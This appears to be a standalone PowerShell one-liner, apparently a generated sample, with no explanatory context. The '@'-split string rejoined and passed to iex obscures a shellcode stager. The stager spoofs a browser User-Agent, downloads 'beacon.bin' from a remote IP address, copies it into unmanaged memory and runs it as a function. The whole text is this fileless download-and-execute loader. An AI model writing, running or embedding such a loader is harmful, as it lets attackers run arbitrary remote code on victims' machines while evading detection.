iex (('# run 5097 v0
$wc = New-Object Net.WebClient
$wc.Headers[''User-Agent''] = ''Moz@illa/5.0 (Windows NT 10@.0)''
$bytes = $wc.DownloadData(''http://192.0.2.44/beacon.bin'')
$mem = [System.Runtime.Int@eropServices.Marshal]::AllocHGlobal($bytes.Length)
[System.Runtime.InteropServices.Marshal]::Copy($bytes, 0, $mem, @$bytes.Length)
$f = [System.Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer($mem, [Action])
$f.@Invoke()
' -split '@') -join '')